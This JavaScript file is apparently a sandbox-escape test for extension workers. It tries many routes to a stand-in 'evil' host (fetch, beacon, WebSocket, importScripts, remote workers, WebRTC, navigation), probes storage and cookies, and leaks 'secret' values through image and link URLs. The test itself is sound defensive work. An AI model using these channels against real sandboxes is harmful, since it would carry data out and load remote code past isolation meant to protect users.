/* global self, navigator, caches, localStorage, parent, Notification, WebSocket, XMLHttpRequest, EventSource, Worker, SharedWorker, Blob, importScripts, indexedDB, RTCPeerConnection, WebTransport, BroadcastChannel */
/**
 * Tries every way out that a worker knows. Runs in the worker of an extension, with what `start` puts there.
 */
export function ways(/** @type {string} */ evil, /** @type {number} */ udp) {
  /** @type {Record<string, string>} */
  const found = {};
  const within = (/** @type {Promise<unknown>} */ promise) =>
    Promise.race([promise, new Promise((_, no) => setTimeout(() => no('no answer'), 3000))]);
  const attempt = (/** @type {string} */ name, /** @type {() => unknown} */ act) =>
    within(Promise.resolve().then(act)).then(
      () => (found[name] = 'open'),
      (error) => (found[name] = `closed: ${String(error?.name ?? error)}`),
    );
  const event = (/** @type {any} */ target, /** @type {string} */ good, /** @type {string} */ bad) =>
    new Promise((yes, no) => {
      target[`on${good}`] = yes;
      target[`on${bad}`] = no;
    });
  const none = () => Promise.reject('not there');
  const inWorker = (/** @type {string} */ code) =>
    event(new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))), 'message', 'error').then(
      ({ data }) => (data === 'open' ? data : Promise.reject(data)),
    );
  void Promise.all([
    attempt('fetch', () => fetch(`${evil}/fetch`, { mode: 'no-cors' })),
    attempt('fetch keepalive', () =>
      fetch(`${evil}/keep`, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
    ),
    attempt('xhr', () => {
      const request = new XMLHttpRequest();
      request.open('GET', `${evil}/xhr`);
      request.send();
      return event(request, 'load', 'error');
    }),
    attempt('websocket', () => event(new WebSocket(`${evil.replace('http', 'ws')}/ws`), 'open', 'error')),
    attempt('eventsource', () => event(new EventSource(`${evil}/es`), 'open', 'error')),
    attempt('importScripts', () => importScripts(`${evil}/is.js`)),
    attempt('import()', () => new Function('address', 'return import(address)')(`${evil}/imp.js`)),
    attempt('import() as it stands', () => import(`${evil}/imp.js`)),
    attempt('eval', () => (0, eval)('1')),
    attempt('nested worker', () =>
      inWorker(`fetch('${evil}/nested',{mode:'no-cors'}).then(()=>postMessage('open'),()=>postMessage('closed'))`),
    ),
    attempt('worker of an address', () => event(new Worker(`${evil}/worker.js`), 'message', 'error')),
    attempt('shared worker', () =>
      typeof SharedWorker === 'undefined' ? none() : new SharedWorker(`${evil}/shared.js`),
    ),
    attempt('webrtc', () =>
      typeof RTCPeerConnection === 'undefined'
        ? none()
        : new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] }).createOffer(),
    ),
    attempt('webtransport', () =>
      typeof WebTransport === 'undefined' ? none() : new WebTransport(`https://127.0.0.1:${udp}/wt`).ready,
    ),
    attempt('beacon', () => (navigator.sendBeacon ? navigator.sendBeacon(`${evil}/beacon`) || none() : none())),
    attempt('indexeddb', () => event(indexedDB.open('x'), 'success', 'error')),
    attempt('caches', () => caches.open('x')),
    attempt('caches by their prototype', () => {
      for (let at = self; at; at = Object.getPrototypeOf(at))
        for (const [name, { get }] of Object.entries(Object.getOwnPropertyDescriptors(at)))
          if (get && /cache/i.test(name)) return get.call(self).open('x');
      return none();
    }),
    attempt('caches of a nested worker', () => inWorker(`caches.open('x').then(()=>postMessage('open'),postMessage)`)),
    attempt('locks', () => navigator.locks.request('x', () => 1)),
    attempt('files', () => navigator.storage.getDirectory()),
    attempt('localStorage', () => (typeof localStorage === 'undefined' ? none() : localStorage.setItem('a', 'b'))),
    attempt('cookies', () => ('cookieStore' in self ? self.cookieStore.set('a', 'b') : none())),
    attempt('service worker', () => navigator.serviceWorker?.register('/sw.js') ?? none()),
    attempt('document', () => (typeof document === 'undefined' ? none() : document.title)),
    attempt('parent', () => (typeof parent === 'undefined' ? none() : parent.document)),
    attempt('window', () => (typeof window === 'undefined' ? none() : window.open(`${evil}/popup`))),
    attempt('navigation', () => {
      if (typeof document === 'undefined') self.location.href = `${evil}/nav`;
      return none();
    }),
    attempt('notification', () =>
      typeof Notification === 'undefined' || Notification.permission !== 'granted' ? none() : 1,
    ),
    attempt('broadcast to the page', () => {
      const channel = new BroadcastChannel('wb-test');
      channel.postMessage('broadcast');
      return none();
    }),
  ]).then(() => self.say('action', 'found', found));
  // A link and an image say something by their names alone.
  self.draw(
    self.node('s', 'stack', {}, [
      self.node('l', 'link', { href: `${evil.replace('evil', 'secret-in-a-name')}/` }, [self.words('t', 'Help')]),
      self.node('i', 'image', { src: `${evil}/pixel.png?cart=secret`, alt: 'x' }),
    ]),
  );
}
